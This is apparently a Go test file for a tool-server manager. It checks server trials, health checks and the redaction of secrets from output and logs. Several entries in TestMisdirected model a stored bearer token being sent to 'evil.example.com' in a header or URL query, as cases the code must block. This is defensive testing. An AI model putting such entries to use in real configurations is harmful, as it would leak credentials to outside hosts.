package servers

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"syscall"
	"testing"

	"crewlet/engine/refusal"
	"crewlet/engine/secrets"
	"crewlet/engine/tool"
)

func (h *house) tried(t *testing.T, name, entry string) (Tried, error) {
	t.Helper()
	return tool.Do(t.Context(), h.run, h.servers.Try, admin(), TryServer{Name: name, Entry: json.RawMessage(entry)})
}

// self is an entry that starts the test binary with these tools.
func self(more string, names ...string) string {
	return fmt.Sprintf(`{"command":%q,"args":["tools","%s"]%s}`, os.Args[0], strings.Join(names, `","`), more)
}

func TestTry(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.store("CANARY", "swordfish-3")
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusUnauthorized)
	}))
	t.Cleanup(web.Close)
	h.declare(tiny("known", "enabled: false", "echo"))
	for name, c := range map[string]struct {
		name, entry string
		ok          bool
		fault, says string
		tools       int
		missing     string
	}{
		"answers":       {"fresh", self("", "echo", "read_it"), true, "", "lists 2 tools", 2, ""},
		"an edit":       {"known", self("", "echo"), true, "", "lists 1 tool.", 1, ""},
		"with a secret": {"fresh", self(`,"env":{"T":"${CANARY}"}`, "echo"), true, "", "lists 1 tool.", 1, ""},
		"names missing": {"fresh", self(`,"tools":{"include":["echo","gone"]}`, "echo"), true, "", "none named gone", 1, ""},
		"held back":     {"fresh", self(`,"env":{"T":"${NOT_THERE}"}`, "echo"), false, FaultHeldBack, "NOT_THERE", 0, "NOT_THERE"},
		"no such thing": {"fresh", `{"command":"no-such-command-anywhere"}`, false, FaultFailed, "ot found on PATH", 0, ""},
		"ends at once":  {"fresh", `{"command":"sh","args":["-c","echo out of luck >&2; exit 3"]}`, false, FaultFailed, "exit status 3", 0, ""},
		"says nothing":  {"fresh", `{"command":"sleep","args":["1000"],"startup_timeout":1}`, false, FaultSilent, "1 second", 0, ""},
		"refuses us":    {"fresh", `{"url":"` + web.URL + `","allow_private_addresses":true}`, false, FaultCredential, "401", 0, ""},
		"elsewhere":     {"fresh", `{"url":"` + web.URL + `"}`, false, FaultFailed, "loopback", 0, ""},
	} {
		t.Run(name, func(t *testing.T) {
			out, err := h.tried(t, c.name, c.entry)
			if err != nil || out.OK != c.ok || out.Fault != c.fault || !strings.Contains(out.Says, c.says) || len(out.Tools) != c.tools ||
				strings.Join(out.Missing, " ") != c.missing {
				t.Errorf("answer %+v %v", out, err)
			}
			if name == "ends at once" && strings.Join(out.StderrTail, "") != "out of luck" {
				t.Errorf("its last words are %v", out.StderrTail)
			}
		})
	}
	if out, err := h.tried(t, "fresh", self("", "read_it")); err != nil || out.Tools[0].Hint != "read-only" || out.Tools[0].Description == "" {
		t.Errorf("answer %+v %v", out, err)
	}
	if _, err := h.tried(t, "fresh", `{"comand":"x"}`); !refusal.Is(err, refusal.Invalid) || refusal.Of(err).Fields["comand"] == "" {
		t.Errorf("got %v", err)
	}
	if n := h.count(`SELECT count(*) FROM server_catalogues`); n != 0 {
		t.Error("a trial is in the catalogue")
	}
}

// What a server is given while it is tried may be a secret, whoever wrote it
// where.
func TestATrialHidesAllItIsGiven(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.declare("")
	h.store("STORED", "canary-stored")
	const key = "-----BEGIN KEY-----\ncanary-line-one\ncanary-line-two\n-----END KEY-----\n"
	in := TryServer{
		Name: "fresh", Values: []TrialValue{{Name: "KEY", Value: key}},
		Entry: json.RawMessage(`{"command":"sh","args":["-c","echo $LITERAL $STORED >&2; echo \"$KEY\" >&2; echo lines $(echo \"$KEY\" | wc -l) >&2; exit 3"],` +
			`"env":{"LITERAL":"canary-literal","STORED":"Bearer ${STORED}","KEY":"${KEY}"}}`),
	}
	out, err := tool.Do(t.Context(), h.run, h.servers.Try, admin(), in)
	if err != nil || out.Fault != FaultFailed {
		t.Fatalf("answer %+v %v", out, err)
	}
	said := strings.Join(out.StderrTail, "\n")
	if strings.Contains(said+h.log.String(), "canary") || !strings.Contains(said, "[redacted]") {
		t.Errorf("it was heard to say %s", said)
	}
	if !strings.Contains(said, "lines 5") {
		t.Errorf("the value did not arrive with its lines: %s", said)
	}
	in.Values[0].Value = strings.Repeat("x", secrets.MaxValue+1)
	if _, err := tool.Do(t.Context(), h.run, h.servers.Try, admin(), in); !refusal.Is(err, refusal.Invalid) || refusal.Of(err).Fields["values"] == "" {
		t.Errorf("a value that is too long: %v", err)
	}
}

func TestCheck(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.declare(tiny("alpha", "", "echo") + tiny("off", "enabled: false", "echo") + tiny("held", "env: {T: \"${NOT_THERE}\"}", "echo") +
		"  - name: lost\n    command: no-such-command-anywhere\n")
	sv := h.in("alpha", Running)
	h.in("lost", Failing)
	h.in("held", Failing)
	for name, c := range map[string]struct {
		server string
		ok     bool
		says   string
		class  refusal.Class
	}{
		"running":   {"alpha", true, "lists 1 tool, as before", ""},
		"down":      {"lost", false, "no-such-command", ""},
		"held back": {"held", false, "NOT_THERE", ""},
		"off":       {"off", false, "", refusal.NotRunning},
		"nobody":    {"nope", false, "", refusal.NotFound},
	} {
		t.Run(name, func(t *testing.T) {
			out, err := tool.Do(t.Context(), h.run, h.servers.Check, admin(), CheckServer{Name: c.server})
			if c.class != "" {
				if !refusal.Is(err, c.class) {
					t.Errorf("got %v, want %s", err, c.class)
				}
				return
			}
			if err != nil || out.OK != c.ok || !strings.Contains(out.Says, c.says) || out.Node != "node-1" || out.At.IsZero() {
				t.Errorf("answer %+v %v", out, err)
			}
		})
	}
	if err := syscall.Kill(h.pid(sv.ID), syscall.SIGUSR1); err != nil {
		t.Fatal(err)
	}
	h.until("the new tool is listed", func(Overview) bool {
		out, err := tool.Do(t.Context(), h.run, h.servers.Check, admin(), CheckServer{Name: "alpha"})
		return err == nil && out.Tools == 2 && toolNames(h.now(), "mcp:alpha") == "echo grown"
	})
}

func TestMisdirected(t *testing.T) {
	t.Parallel()
	h := newHouse(t)
	h.declare("")
	set := func(name, value string, hosts ...string) {
		t.Helper()
		if _, err := tool.Do(t.Context(), h.run, h.secrets.Set, admin(), secrets.SetSecret{Name: name, Value: value, Hosts: hosts}); err != nil {
			t.Fatal(err)
		}
	}
	set("TOKEN", "canary-token", "api.example.com")
	set("ANYWHERE", "canary-other")
	set("PLAIN", "http://canary.example.com/mcp")
	set("USER", "https://me:canary@example.com/mcp")
	set("NOTHING", "canary")
	set("FTP", "ftp://canary.example.com")
	for name, c := range map[string]struct{ entry, says string }{
		"another host":            {`{"url":"https://evil.example.com/mcp","headers":{"Authorization":"Bearer ${TOKEN}"}}`, "TOKEN may be sent to api.example.com"},
		"another host in the url": {`{"url":"https://evil.example.com/mcp?t=${TOKEN}"}`, "TOKEN may be sent to api.example.com"},
		"plain http":              {`{"url":"${PLAIN}","headers":{"Authorization":"Bearer ${ANYWHERE}"}}`, "plain http"},
		"user and password":       {`{"url":"${USER}"}`, "user name or a password"},
		"no address":              {`{"url":"${NOTHING}"}`, "absolute address"},
		"another scheme":          {`{"url":"${FTP}"}`, "absolute address"},
		"unresolved":              {`{"url":"https://${NO_HOST}/mcp"}`, "${NO_HOST} does not resolve"},
	} {
		t.Run(name, func(t *testing.T) {
			out, err := h.tried(t, "fresh", c.entry)
			if err != nil || out.Fault != FaultHeldBack || !strings.Contains(out.Says, c.says) || strings.Contains(out.Says, "canary") ||
				strings.Contains(out.Says, "optional_keys") {
				t.Errorf("answer %+v %v", out, err)
			}
		})
	}
}
